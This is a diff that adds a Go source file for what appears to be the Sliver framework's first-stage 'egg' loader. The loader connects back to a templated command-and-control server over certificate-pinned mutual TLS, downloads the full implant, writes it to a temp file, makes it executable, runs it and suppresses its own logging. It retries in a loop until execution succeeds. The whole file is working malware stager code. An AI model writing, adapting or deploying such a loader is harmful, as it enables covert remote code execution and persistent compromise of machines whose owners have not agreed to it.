@@ -0,0 +1,95 @@
+package main
+
+import (
+	"crypto/tls"
+	"crypto/x509"
+	"errors"
+	"io/ioutil"
+	"log"
+	"net"
+	"os"
+	"os/exec"
+	"strconv"
+	"time"
+)
+
+// Egg - First-stage loader: connects back over mTLS, downloads the full
+// sliver implant, drops it to disk, and execs it. This file is rendered
+// standalone (it is not compiled alongside the full implant's sliver.go) so
+// it stays a minimal, single-purpose binary.
+//
+// DNS staging is not implemented yet: generate.SliverEgg refuses to build an
+// egg without config.MTLSServer set, so this binary is only ever rendered
+// for the mTLS case.
+
+const (
+	mtlsServer = "{{.MTLSServer}}"
+	mtlsLPort  = {{.MTLSLPort}}
+	reconnect  = {{.ReconnectInterval}}
+)
+
+var (
+	caCertPEM = `{{.CACert}}`
+	certPEM   = `{{.Cert}}`
+	keyPEM    = `{{.Key}}`
+)
+
+func main() {
+	for {
+		sliver, err := fetchSliverMTLS()
+		if err == nil {
+			if execErr := runSliver(sliver); execErr == nil {
+				return
+			}
+		}
+		time.Sleep(time.Duration(reconnect) * time.Second)
+	}
+}
+
+// fetchSliverMTLS - Dials the listener over mTLS and reads the staged
+// implant. The server must present a cert signed by caCertPEM, and we
+// authenticate to it with certPEM/keyPEM, the same cert pinning the full
+// implant's tcp-mtls transport uses.
+func fetchSliverMTLS() ([]byte, error) {
+	caCertPool := x509.NewCertPool()
+	if !caCertPool.AppendCertsFromPEM([]byte(caCertPEM)) {
+		return nil, errors.New("failed to parse CA certificate")
+	}
+	clientCert, err := tls.X509KeyPair([]byte(certPEM), []byte(keyPEM))
+	if err != nil {
+		return nil, err
+	}
+
+	addr := net.JoinHostPort(mtlsServer, strconv.Itoa(mtlsLPort))
+	conn, err := tls.Dial("tcp", addr, &tls.Config{
+		RootCAs:      caCertPool,
+		Certificates: []tls.Certificate{clientCert},
+		ServerName:   mtlsServer,
+	})
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+	return ioutil.ReadAll(conn)
+}
+
+// runSliver - Drops the staged implant to a temp file and hands off execution
+func runSliver(sliver []byte) error {
+	tmpFile, err := ioutil.TempFile("", "")
+	if err != nil {
+		return err
+	}
+	defer os.Remove(tmpFile.Name())
+	if _, err := tmpFile.Write(sliver); err != nil {
+		tmpFile.Close()
+		return err
+	}
+	tmpFile.Close()
+	os.Chmod(tmpFile.Name(), 0700)
+	cmd := exec.Command(tmpFile.Name())
+	if err := cmd.Start(); err != nil {
+		return err
+	}
+	log.SetOutput(ioutil.Discard) // Stay quiet
+	return cmd.Wait()
+}